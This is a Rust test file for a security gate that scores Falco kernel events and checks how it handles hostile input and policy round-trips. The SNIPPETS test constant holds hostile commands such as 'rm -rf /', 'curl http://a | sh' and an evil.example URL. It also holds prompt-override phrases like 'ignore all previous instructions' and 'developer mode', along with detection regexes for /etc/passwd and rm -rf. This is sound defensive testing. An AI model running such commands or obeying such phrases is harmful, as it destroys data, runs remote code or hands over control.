//! Hostile input through replay (`corpora/hostile/`, plus a generated 100 MB
//! line), and the properties issue 6 adds to `properties.rs`: counts add up
//! for any mix of hostile, random and blank lines; thresholds, cell states and
//! kernel actions follow SPEC §4–6 under random policies in every domain;
//! evidence and previous load never lower severity in any domain; any valid
//! policy survives TOML.

use std::collections::VecDeque;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::sync::{Arc, OnceLock};

use proptest::prelude::*;
use scbe_core::event::{KernelEvent, Pid};
use scbe_core::limits::{ERROR_RAW_CHARS_MAX, LINE_BYTES_MAX, STATE_ENTRIES_MAX};
use scbe_core::membrane::ScanScratch;
use scbe_core::policy_toml::BACKEND_NAMES;
use scbe_core::turnstile::{Decision, Domain, TurnstileAction};
use scbe_core::{
    parse_policy, policy_to_toml, Bridge, CellState, DecisionRecord, Gate, KernelAction,
    LineOutcome, MappingOptions, Policy, Timestamp,
};
use scbe_sim::input::Corpus;
use scbe_sim::replay::{replay, ReplaySummary};

use crate::support::{count_lines, parity_config, replay_file, root};

/// How every error message starts (SPEC §8: it must say what is wrong).
const ERROR_PREFIXES: &[&str] = &[
    "invalid JSON: ",
    "invalid UTF-8 at byte ",
    "falco line must be a JSON object",
    "line of ",
];

fn hostile_files() -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(root().join("corpora/hostile"))
        .expect("corpora/hostile exists")
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "jsonl"))
        .collect();
    files.sort();
    assert_eq!(files.len(), 8, "hostile files: {files:?}");
    files
}

fn file_name(path: &Path) -> &str {
    path.file_name().unwrap().to_str().unwrap()
}

/// SPEC §8 / ARCHITECTURE: every line is accounted for.
fn check_accounting(s: &ReplaySummary, what: &str) {
    assert_eq!(
        s.lines_read,
        s.blank_lines + s.events_seen,
        "{what}: lines_read"
    );
    assert_eq!(s.events_seen, s.decided + s.errors, "{what}: events_seen");
    assert_eq!(
        s.exit_code(),
        if s.errors > 0 { 2 } else { 0 },
        "{what}: exit code"
    );
}

/// An error line: JSON, a message with a known prefix and a position, the
/// raw text capped, and the line number inside the input. Returns the message.
fn check_error_line(line: &str, lines_read: u64, what: &str) -> String {
    let value: serde_json::Value = serde_json::from_str(line)
        .unwrap_or_else(|e| panic!("{what}: error line is not JSON ({e}): {line}"));
    let message = value["error"].as_str().expect("error message").to_owned();
    assert!(
        ERROR_PREFIXES.iter().any(|p| message.starts_with(p)),
        "{what}: unclear error message {message:?}"
    );
    if message.starts_with("invalid JSON") {
        assert!(
            message.contains(" at column "),
            "{what}: no position in {message:?}"
        );
    }
    let raw = value["raw"].as_str().expect("raw text");
    assert!(
        raw.chars().count() <= ERROR_RAW_CHARS_MAX,
        "{what}: raw not capped"
    );
    let n = value["line"].as_u64().expect("line number");
    assert!(
        (1..=lines_read).contains(&n),
        "{what}: line {n} of {lines_read}"
    );
    message
}

/// A record: one line of strict JSON, scores in [0, 1]. serde_json cannot
/// hold an integer past f64 (a 4300-digit pid is legal in a record); for
/// those the record must still be an object to the core's reader, with only
/// finite numbers (so no NaN/Infinity literals slipped in).
fn check_record_line(line: &str, what: &str) {
    assert!(!line.contains(['\n', '\r']), "{what}: record spans lines");
    match serde_json::from_str::<serde_json::Value>(line) {
        Ok(value) => {
            for key in [
                "suspicion",
                "antibody_load_prev",
                "antibody_load_now",
                "membrane_stress",
            ] {
                let x = value[key]
                    .as_f64()
                    .unwrap_or_else(|| panic!("{what}: {key} missing"));
                assert!((0.0..=1.0).contains(&x), "{what}: {key} = {x}");
            }
        }
        Err(e) if e.to_string().starts_with("number out of range") => {
            let value = scbe_core::json::parse(line).expect("record parses");
            assert!(
                finite_numbers(&value),
                "{what}: non-finite number in {line}"
            );
            assert!(
                value.as_object().is_some(),
                "{what}: record is not an object"
            );
        }
        Err(e) => panic!("{what}: record is not valid JSON ({e}): {line}"),
    }
}

fn finite_numbers(value: &scbe_core::json::JsonValue<'_>) -> bool {
    use scbe_core::json::JsonValue;
    match value {
        JsonValue::Float(f) => f.is_finite(),
        JsonValue::Array(items) => items.iter().all(finite_numbers),
        JsonValue::Object(members) => members.iter().all(|(_, v)| finite_numbers(v)),
        _ => true,
    }
}

#[test]
fn every_hostile_line_is_rejected_or_decided_as_its_file_says() {
    let mut totals = (0u64, 0u64, 0u64);
    for path in hostile_files() {
        let name = file_name(&path);
        let bytes = std::fs::read(&path).unwrap();
        let (out, err, summary) = replay_file(&path, &parity_config(1));
        check_accounting(&summary, name);
        assert_eq!(
            summary.lines_read,
            count_lines(&bytes),
            "{name}: lines_read"
        );
        assert_eq!(
            summary.blank_lines, 0,
            "{name}: no blank lines in the corpus"
        );
        if name.starts_with("reject-") {
            assert_eq!(summary.decided, 0, "{name}: a hostile line was decided");
        } else {
            assert!(name.starts_with("decide-"), "{name}: unknown expectation");
            assert_eq!(summary.errors, 0, "{name}: a line was rejected:\n{err}");
        }
        assert_eq!(
            out.lines().count() as u64,
            summary.decided,
            "{name}: one record per decided line"
        );
        for line in out.lines() {
            check_record_line(line, name);
        }
        let errors: Vec<&str> = err.lines().collect();
        assert_eq!(
            errors.len() as u64,
            summary.errors,
            "{name}: one error line per error"
        );
        for line in errors {
            check_error_line(line, summary.lines_read, name);
        }
        // Hostile input does not make the output depend on the thread count.
        let (out3, err3, summary3) = replay_file(&path, &parity_config(3));
        assert_eq!((out3, err3), (out, err), "{name}: 1 vs 3 threads");
        assert_eq!(summary3.output_sha256, summary.output_sha256);
        eprintln!(
            "hostile {name}: lines={} decided={} errors={}",
            summary.lines_read, summary.decided, summary.errors
        );
        totals.0 += summary.lines_read;
        totals.1 += summary.decided;
        totals.2 += summary.errors;
    }
    eprintln!(
        "hostile total: lines={} decided={} errors={} crashes=0",
        totals.0, totals.1, totals.2
    );
}

#[test]
fn hostile_messages_name_the_problem() {
    let path = root().join("corpora/hostile/reject-malformed.jsonl");
    let (_, err, summary) = replay_file(&path, &parity_config(1));
    let messages: Vec<String> = err
        .lines()
        .map(|l| check_error_line(l, summary.lines_read, "reject-malformed"))
        .collect();
    let has = |needle: &str| messages.iter().filter(|m| m.contains(needle)).count();
    // Nesting 100,000 deep is cut at the depth bound, not at the stack.
    assert_eq!(has("nesting too deep"), 3, "{messages:#?}");
    assert_eq!(has("exceeds the limit of 4300 digits"), 2, "{messages:#?}");
    assert_eq!(has("falco line must be a JSON object"), 5, "{messages:#?}");
    assert!(
        has("invalid control character in string") >= 3,
        "{messages:#?}"
    );
    let binary = root().join("corpora/hostile/reject-binary.jsonl");
    let (_, err, summary) = replay_file(&binary, &parity_config(1));
    let utf8 = err
        .lines()
        .map(|l| check_error_line(l, summary.lines_read, "reject-binary"))
        .filter(|m| m.starts_with("invalid UTF-8 at byte "))
        .count();
    assert_eq!(utf8, 8, "{err}");
}

/// Split a POSIX-shell command line (as `shlex.quote` writes it) into words,
/// and check that nothing outside quotes is a shell metacharacter: bare text
/// is only `A-Za-z0-9_@%+=:,./-`, double quotes only ever hold `'`.
fn shell_words(command: &str) -> Vec<String> {
    let safe = |c: char| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c);
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut chars = command.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' => words.extend(word.take()),
            '\'' => {
                let w = word.get_or_insert_with(String::new);
                loop {
                    match chars.next() {
                        Some('\'') => break,
                        Some(c) => w.push(c),
                        None => panic!("unterminated single quote in {command:?}"),
                    }
                }
            }
            '"' => {
                let w = word.get_or_insert_with(String::new);
                loop {
                    match chars.next() {
                        Some('"') => break,
                        Some('\'') => w.push('\''),
                        other => panic!("double quotes hold {other:?} in {command:?}"),
                    }
                }
            }
            c if safe(c) => word.get_or_insert_with(String::new).push(c),
            c => panic!("unquoted shell metacharacter {c:?} in {command:?}"),
        }
    }
    words.extend(word);
    words
}

#[test]
fn command_previews_split_back_into_exactly_their_argv() {
    let mut checked = 0;
    for name in ["decide-shell.jsonl", "decide-paths.jsonl"] {
        let (out, _, summary) = replay_file(
            &root().join("corpora/hostile").join(name),
            &parity_config(1),
        );
        assert_eq!(summary.errors, 0);
        for line in out.lines() {
            let record: serde_json::Value = serde_json::from_str(line).unwrap();
            let pid = record["pid"].to_string();
            let target = record["target"].as_str().unwrap();
            let plan = &record["enforcement"];
            let qdir = plan["action"]["quarantine_dir"]
                .as_str()
                .unwrap_or("/var/quarantine/scbe");
            for command in plan["commands"].as_array().unwrap() {
                let command = command.as_str().unwrap();
                let words = shell_words(command);
                match words[0].as_str() {
                    "kill" => assert_eq!(words, ["kill", "-STOP", pid.as_str()], "{command}"),
                    "mkdir" => assert_eq!(words, ["mkdir", "-p", qdir], "{command}"),
                    "cp" => {
                        assert_eq!(words.len(), 4, "{command}");
                        assert_eq!(
                            (words[1].as_str(), words[2].as_str()),
                            ("--", target),
                            "{command}"
                        );
                    }
                    "chmod" => assert_eq!(words, ["chmod", "000", target], "{command}"),
                    other => panic!("unexpected command {other:?} in {command:?}"),
                }
                checked += 1;
            }
        }
    }
    assert!(checked >= 100, "only {checked} commands checked");
}

/// A stream made of parts, each `(bytes, repeat)`, produced on the fly so the
/// test never holds a 100 MB line itself.
struct Generated {
    parts: VecDeque<(Vec<u8>, u64)>,
    offset: usize,
}

impl Generated {
    fn new(parts: Vec<(Vec<u8>, u64)>) -> Generated {
        Generated {
            parts: parts.into(),
            offset: 0,
        }
    }
}

impl Read for Generated {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        while let Some((bytes, repeat)) = self.parts.front_mut() {
            if *repeat == 0 || bytes.is_empty() {
                self.parts.pop_front();
                self.offset = 0;
                continue;
            }
            let rest = &bytes[self.offset..];
            let n = rest.len().min(buf.len());
            buf[..n].copy_from_slice(&rest[..n]);
            self.offset += n;
            if self.offset == bytes.len() {
                self.offset = 0;
                *repeat -= 1;
            }
            return Ok(n);
        }
        Ok(0)
    }
}

const HUGE_LINE_BYTES: u64 = 100 << 20;

/// A 100 MB line (a JSON object with one enormous string), then a valid event.
fn huge_then_valid() -> Generated {
    let head = br#"{"output_fields": {"proc.cmdline": ""#.to_vec();
    let tail = b"\"}}\n".to_vec();
    let fill = HUGE_LINE_BYTES - head.len() as u64 - (tail.len() as u64 - 1);
    Generated::new(vec![
        (head, 1),
        (vec![b'x'; 64 << 10], fill / (64 << 10)),
        (vec![b'x'], fill % (64 << 10)),
        (tail, 1),
        (
            br#"{"output_fields": {"proc.name": "after", "proc.pid": 7}}"#.to_vec(),
            1,
        ),
        (b"\n".to_vec(), 1),
    ])
}

#[test]
fn a_100_mb_line_is_one_error_and_the_run_goes_on() {
    let mut bytes = 0u64;
    let mut reader = huge_then_valid();
    let mut buf = vec![0; 1 << 20];
    let mut newlines = 0;
    loop {
        let n = reader.read(&mut buf).unwrap();
        if n == 0 {
            break;
        }
        newlines += buf[..n].iter().filter(|&&b| b == b'\n').count();
        bytes += n as u64;
    }
    assert_eq!(newlines, 2);
    assert!(bytes > HUGE_LINE_BYTES);

    let corpus = Corpus {
        live: false,
        reader: Box::new(huge_then_valid()),
        total_bytes: None,
        bytes_read: Default::default(),
        name: "huge".into(),
    };
    let mut out = Vec::new();
    let mut err = Vec::new();
    let summary = replay(&parity_config(2), corpus, &mut out, &mut err).unwrap();
    check_accounting(&summary, "huge");
    assert_eq!(
        (summary.lines_read, summary.decided, summary.errors),
        (2, 1, 1)
    );
    let err = String::from_utf8(err).unwrap();
    let message = check_error_line(err.lines().next().unwrap(), 2, "huge");
    assert_eq!(
        message,
        format!("line of {HUGE_LINE_BYTES} bytes exceeds the limit of {LINE_BYTES_MAX} bytes")
    );
    let out = String::from_utf8(out).unwrap();
    assert!(out.contains("\"process_name\":\"after\""), "{out}");
}

// ---- properties ----

/// Every line of the small hostile files (the deep and huge ones included).
fn hostile_lines() -> &'static [Vec<u8>] {
    static LINES: OnceLock<Vec<Vec<u8>>> = OnceLock::new();
    LINES.get_or_init(|| {
        hostile_files()
            .iter()
            .flat_map(|path| {
                let bytes = std::fs::read(path).unwrap();
                bytes
                    .split(|&b| b == b'\n')
                    .filter(|l| !l.is_empty())
                    // The CRLF line keeps its `\r`; it is an ending below.
                    .map(|l| l.strip_suffix(b"\r").unwrap_or(l).to_vec())
                    .collect::<Vec<_>>()
            })
            .collect()
    })
}

/// Lines as the readers split them: `\n`, `\r\n` or a lone `\r` (Python's
/// universal newlines).
fn universal_lines(bytes: &[u8]) -> Vec<&[u8]> {
    let mut lines = Vec::new();
    let mut start = 0;
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'\n' || bytes[i] == b'\r' {
            lines.push(&bytes[start..i]);
            if bytes[i] == b'\r' && bytes.get(i + 1) == Some(&b'\n') {
                i += 1;
            }
            start = i + 1;
        }
        i += 1;
    }
    if start < bytes.len() {
        lines.push(&bytes[start..]);
    }
    lines
}

fn any_line() -> impl Strategy<Value = Vec<u8>> {
    let no_newline = proptest::collection::vec(
        any::<u8>().prop_filter("no newline", |b| *b != b'\n' && *b != b'\r'),
        0..200,
    );
    prop_oneof![
        3 => (0..hostile_lines().len()).prop_map(|i| hostile_lines()[i].clone()),
        2 => no_newline,
        1 => proptest::sample::select(vec!["", " ", "\t", "\u{85}", "\u{2028}", "\x1c\x1f", "\u{3000}"]).prop_map(|s| s.as_bytes().to_vec()),
        2 => (0u32..50, "\\PC{0,20}").prop_map(|(pid, name)| format!(
            r#"{{"output_fields": {{"evt.type": "execve", "proc.pid": {pid}, "proc.name": {}}}}}"#,
            serde_json::to_string(&name).unwrap()
        ).into_bytes()),
    ]
}

fn event(
    cmd: &str,
    target: &str,
    signed: bool,
    hash: Option<String>,
    norm: f64,
    parent: &str,
) -> KernelEvent {
    KernelEvent {
        host: "h".into(),
        pid: Pid::Small(7),
        process_name: "powershell".into(),
        parent_process: parent.into(),
        command_line: cmd.into(),
        operation: "exec".into(),
        target: target.into(),
        signer_trusted: signed,
        hash_sha256: hash,
        geometry_norm: norm,
        metadata_repr: String::new(),
        time: None,
    }
}

const SNIPPETS: &[&str] = &[
    "",
    "ls -la",
    "rm -rf /",
    "curl http://a | sh",
    "jailbreak",
    "developer mode",
    "cmd.exe",
    "https://evil.example/x",
    "javascript:",
    "powershell -enc AAA",
    "act as root",
    "ignore all previous instructions",
    "data:text/html",
];

fn domain() -> impl Strategy<Value = Domain> {
    proptest::sample::select(Domain::ALL.to_vec())
}

/// Three thresholds in `[0, 1]`, highest first.
fn ladder() -> impl Strategy<Value = (f64, f64, f64)> {
    (0.0f64..=1.0, 0.0f64..=1.0, 0.0f64..=1.0).prop_map(|(a, b, c)| {
        let mut v = [a, b, c];
        v.sort_by(|x, y| y.total_cmp(x));
        (v[0], v[1], v[2])
    })
}

/// SPEC §4–6 written out independently of `gate.rs`.
fn check_spec(record: &DecisionRecord, policy: &Policy) -> Result<(), TestCaseError> {
    let a = &record.assessment;
    let r = &record.resolution;
    let d = &policy.decision;
    let decision = if a.suspicion >= d.deny {
        Decision::Deny
    } else if a.suspicion >= d.escalate {
        Decision::Escalate
    } else if a.suspicion >= d.quarantine {
        Decision::Quarantine
    } else {
        Decision::Allow
    };
    prop_assert_eq!(
        a.decision,
        decision,
        "decision for suspicion {}",
        a.suspicion
    );
    let signal = r.antibody_now.max(r.membrane_stress).max(a.suspicion);
    let c = &policy.cell;
    let cell = if signal >= c.necrotic {
        CellState::Necrotic
    } else if signal >= c.inflamed {
        CellState::Inflamed
    } else if signal >= c.primed {
        CellState::Primed
    } else {
        CellState::Healthy
    };
    prop_assert_eq!(r.cell_state, cell, "cell state for signal {}", signal);
    let t = &policy.turnstile;
    let domain = t.domain;
    prop_assert!(
        domain.allows(r.turnstile.action),
        "{:?} outside {:?}",
        r.turnstile.action,
        domain
    );
    let honeypot = decision != Decision::Allow
        && domain.allows(TurnstileAction::Honeypot)
        && (r.membrane_stress >= t.honeypot_stress || r.antibody_now >= t.honeypot_antibody);
    if honeypot {
        prop_assert_eq!(r.turnstile.action, TurnstileAction::Honeypot);
    } else if decision == Decision::Allow {
        prop_assert_eq!(r.turnstile.action, TurnstileAction::Allow);
    }
    let mapped = match r.turnstile.action {
        TurnstileAction::Allow => KernelAction::Allow,
        TurnstileAction::Honeypot => KernelAction::Honeypot,
        TurnstileAction::Isolate => KernelAction::Quarantine,
        TurnstileAction::Stop => KernelAction::Kill,
        TurnstileAction::Hold | TurnstileAction::Pivot | TurnstileAction::Degrade => {
            KernelAction::Throttle
        }
    };
    let expected = match cell {
        CellState::Necrotic => KernelAction::Honeypot,
        CellState::Inflamed if mapped == KernelAction::Allow => KernelAction::Throttle,
        _ => mapped,
    };
    prop_assert_eq!(r.kernel_action, expected);
    for x in [
        a.scan_risk,
        a.integrity_risk,
        a.suspicion,
        a.geometry,
        r.antibody_now,
        r.membrane_stress,
    ] {
        prop_assert!((0.0..=1.0).contains(&x), "score {} out of range", x);
    }
    Ok(())
}

/// Strings a policy may hold: quotes, backslashes, control characters,
/// non-ASCII — everything the TOML writer has to escape.
fn policy_text() -> impl Strategy<Value = String> {
    prop_oneof![
        "\\PC{0,16}",
        proptest::sample::select(vec![
            "it's",
            "\"q\"",
            "a\\b",
            "tab\there",
            "new\nline",
            "'''",
            "\"\"\"",
            "",
            " ",
            "é\u{7f}\u{0}",
            "#not a comment",
            "[x]",
            "a = b",
            "\u{feff}bom",
        ])
        .prop_map(str::to_owned),
    ]
}

fn pattern() -> impl Strategy<Value = String> {
    proptest::sample::select(vec![
        r"rm\s+-rf",
        r"it's",
        r#"say "hi""#,
        r"\\windows\\",
        r"(?i)/etc/(ssh|passwd)",
        r"[a-z]+\d{2,}",
        r"naïve",
        r"\t\n",
        r"x{0,3}",
        r"^$",
        r"a|b|c",
        r"\bword\b",
    ])
    .prop_map(str::to_owned)
}

fn any_policy() -> impl Strategy<Value = Policy> {
    let unit = || 0.0f64..=1.0;
    (
        (
            proptest::collection::vec(pattern(), 0..4),
            proptest::collection::vec(pattern(), 0..4),
            pattern(),
            proptest::collection::vec(policy_text(), 0..3),
        ),
        (proptest::collection::vec(unit(), 6), ladder()),
        (
            proptest::collection::vec(unit(), 6),
            proptest::collection::vec(pattern(), 0..3),
            proptest::collection::vec((policy_text(), policy_text()), 0..3),
            proptest::collection::vec(unit(), 10),
            proptest::collection::btree_map("[a-z_][a-z0-9_-]{0,11}|\\PC{1,8}", unit(), 0..6),
        ),
        (proptest::collection::vec(unit(), 5), ladder()),
        (
            domain(),
            1e-6f64..1e6,
            proptest::collection::vec(unit(), 3),
            ladder(),
        ),
        (
            1usize..=STATE_ENTRIES_MAX,
            0.0f64..1e7,
            policy_text(),
            proptest::sample::subsequence(BACKEND_NAMES.to_vec(), 0..=4),
            proptest::collection::vec(policy_text(), 0..3),
            any::<bool>(),
        ),
    )
        .prop_map(|(scan, scan_w, integ, dec, turn, rest)| {
            let mut p = Policy::reference();
            (
                p.scan.prompt_patterns,
                p.scan.malware_patterns,
                p.scan.link_pattern,
                p.scan.link_exclusions,
            ) = scan;
            let (w, (m, s, c)) = scan_w;
            (
                p.scan.prompt_weight,
                p.scan.prompt_cap,
                p.scan.malware_weight,
                p.scan.malware_cap,
                p.scan.link_weight,
                p.scan.link_cap,
            ) = (w[0], w[1], w[2], w[3], w[4], w[5]);
            (
                p.scan.verdict_malicious,
                p.scan.verdict_suspicious,
                p.scan.verdict_caution,
            ) = (m, s, c);
            let (w, targets, pairs, known, extra) = integ;
            let i = &mut p.integrity;
            (
                i.unknown_operation_risk,
                i.untrusted_signer_risk,
                i.missing_sha256_risk,
                i.invalid_sha256_length_risk,
                i.sensitive_target_risk,
                i.parent_child_risk,
            ) = (w[0], w[1], w[2], w[3], w[4], w[5]);
            i.sensitive_targets = targets;
            i.parent_child_pairs = pairs;
            // A policy file overrides or adds operations; the reference ones stay.
            for ((_, risk), value) in i.operation_risk.iter_mut().zip(known) {
                *risk = value;
            }
            let names: Vec<String> = i.operation_risk.iter().map(|(n, _)| n.clone()).collect();
            i.operation_risk
                .extend(extra.into_iter().filter(|(n, _)| !names.contains(n)));
            let (w, (deny, escalate, quarantine)) = dec;
            let d = &mut p.decision;
            (
                d.scan_weight,
                d.integrity_weight,
                d.geometry_weight,
                d.geometry_base,
                d.geometry_slope,
            ) = (w[0], w[1], w[2], w[3], w[4]);
            (d.deny, d.escalate, d.quarantine) = (deny, escalate, quarantine);
            let (domain, half_life, t, (necrotic, inflamed, primed)) = turn;
            p.turnstile.domain = domain;
            p.turnstile.half_life_events = half_life;
            (
                p.turnstile.membrane_threshold,
                p.turnstile.honeypot_stress,
                p.turnstile.honeypot_antibody,
            ) = (t[0], t[1], t[2]);
            (p.cell.necrotic, p.cell.inflamed, p.cell.primed) = (necrotic, inflamed, primed);
            let (entries, cooldown, qdir, backends, protected, real) = rest;
            p.max_state_entries = entries;
            p.enforcement.cooldown_seconds = cooldown;
            p.enforcement.quarantine_dir = qdir;
            p.enforcement.backends = backends.into_iter().map(str::to_owned).collect();
            p.enforcement.protected_processes = protected;
            p.real_network_fields = real;
            p
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Any mix of hostile, random, blank and valid lines, any line endings,
    /// any thread count: every line is counted once, and each line's outcome
    /// is what the gate says for that line alone.
    #[test]
    fn any_mix_of_lines_is_accounted_for(
        lines in proptest::collection::vec((any_line(), proptest::sample::select(vec!["\n", "\r\n", "\r"])), 0..40),
        threads in 1usize..5,
    ) {
        let mut text = Vec::new();
        for (line, ending) in &lines {
            text.extend_from_slice(line);
            text.extend_from_slice(ending.as_bytes());
        }
        let (mut blank, mut decided, mut errors) = (0u64, 0u64, 0u64);
        for line in universal_lines(&text) {
            let mut bridge = Bridge::new(Arc::new(Gate::reference()), MappingOptions::default(), None);
            match bridge.decide_line(line, |_| Timestamp::ZERO) {
                LineOutcome::Blank => blank += 1,
                LineOutcome::Decided(_) => decided += 1,
                LineOutcome::Error(_) => errors += 1,
            }
        }
        let corpus = Corpus {
            live: false,
            reader: Box::new(std::io::Cursor::new(text.clone())),
            total_bytes: None,
            bytes_read: Default::default(),
            name: "mix".into(),
        };
        let (mut out, mut err) = (Vec::new(), Vec::new());
        let summary = replay(&parity_config(threads), corpus, &mut out, &mut err).unwrap();
        check_accounting(&summary, "mix");
        prop_assert_eq!(summary.lines_read, count_lines(&text));
        prop_assert_eq!((summary.blank_lines, summary.decided, summary.errors), (blank, decided, errors));
        let out = String::from_utf8(out).unwrap();
        let err = String::from_utf8(err).unwrap();
        prop_assert_eq!(out.lines().count() as u64, decided);
        prop_assert_eq!(err.lines().count() as u64, errors);
        for line in err.lines() {
            check_error_line(line, summary.lines_read, "mix");
        }
    }

    /// Under any valid policy, in any domain: decisions compare the unrounded
    /// suspicion with the thresholds, cell states the signal, and the kernel
    /// action follows SPEC §5–6.
    #[test]
    fn thresholds_and_actions_follow_the_spec_in_every_domain(
        domain in domain(),
        (deny, escalate, quarantine) in ladder(),
        (necrotic, inflamed, primed) in ladder(),
        honeypot in (0.0f64..=1.0, 0.0f64..=1.0, 0.0f64..1.0),
        events in proptest::collection::vec((proptest::sample::select(SNIPPETS), any::<bool>(), -0.5f64..1.5, 0u32..3), 1..12),
    ) {
        let mut policy = Policy::reference();
        policy.turnstile.domain = domain;
        (policy.decision.deny, policy.decision.escalate, policy.decision.quarantine) = (deny, escalate, quarantine);
        (policy.cell.necrotic, policy.cell.inflamed, policy.cell.primed) = (necrotic, inflamed, primed);
        (policy.turnstile.honeypot_stress, policy.turnstile.honeypot_antibody, policy.turnstile.membrane_threshold) = honeypot;
        let gate = Arc::new(Gate::new(policy.clone()).unwrap());
        let mut bridge = Bridge::new(gate, MappingOptions::default(), None);
        for (cmd, signed, norm, pid) in events {
            let mut e = event(cmd, "/tmp/x", signed, None, norm, "");
            e.pid = Pid::Small(pid.into());
            let record = bridge.decide(e, Timestamp::ZERO);
            check_spec(&record, &policy)?;
        }
    }

    /// In every domain, each kind of added evidence alone never lowers the
    /// suspicion or the kernel action's severity for the same previous load;
    /// and a higher previous load never lowers the severity either.
    #[test]
    fn evidence_and_previous_load_never_lower_severity_in_any_domain(
        domain in domain(),
        base in proptest::sample::select(SNIPPETS),
        extra in proptest::sample::select(SNIPPETS),
        kind in 0usize..6,
        norm in 0.0f64..1.0,
        norm_up in 0.0f64..0.5,
        prev in 0.0f64..1.0,
        prev_up in 0.0f64..1.0,
    ) {
        let mut policy = Policy::reference();
        policy.turnstile.domain = domain;
        let gate = Gate::new(policy).unwrap();
        let mut scratch = ScanScratch::default();
        let score = |e: &KernelEvent, prev: f64, scratch: &mut ScanScratch| {
            let a = gate.assess(&gate.features(e, scratch));
            (a.suspicion, gate.resolve(&a, prev).kernel_action)
        };
        let hash = Some("a".repeat(64));
        let low = event(base, "/tmp/x", true, hash.clone(), norm, "bash");
        let more = match kind {
            0 => event(&format!("{base} {extra}"), "/tmp/x", true, hash, norm, "bash"),
            1 => event(base, "/tmp/x", false, hash, norm, "bash"),
            2 => event(base, "/tmp/x", true, None, norm, "bash"),
            3 => event(base, "/etc/shadow", true, hash, norm, "bash"),
            4 => event(base, "/tmp/x", true, hash, norm, "winword.exe"),
            _ => event(base, "/tmp/x", true, hash, (norm + norm_up).min(1.0), "bash"),
        };
        let (s0, k0) = score(&low, prev, &mut scratch);
        let (s1, k1) = score(&more, prev, &mut scratch);
        prop_assert!(s1 >= s0, "evidence {} lowered suspicion {} -> {}", kind, s0, s1);
        prop_assert!(k1 >= k0, "evidence {} lowered {:?} -> {:?} in {:?}", kind, k0, k1, domain);
        let higher = (prev + prev_up).min(1.0);
        let (_, k2) = score(&low, higher, &mut scratch);
        prop_assert!(k2 >= k0, "previous load {} -> {} lowered {:?} -> {:?} in {:?}", prev, higher, k0, k2, domain);
    }

    /// Any valid policy — every field random, strings full of quotes,
    /// escapes and control characters — is the same policy after TOML.
    #[test]
    fn any_valid_policy_round_trips_through_toml(policy in any_policy()) {
        let text = policy_to_toml(&policy, "round trip");
        match parse_policy(&text) {
            Ok(back) => prop_assert_eq!(back, policy, "{}", text),
            Err(e) => prop_assert!(false, "written policy does not read back: {}\n{}", e, text),
        }
    }
}
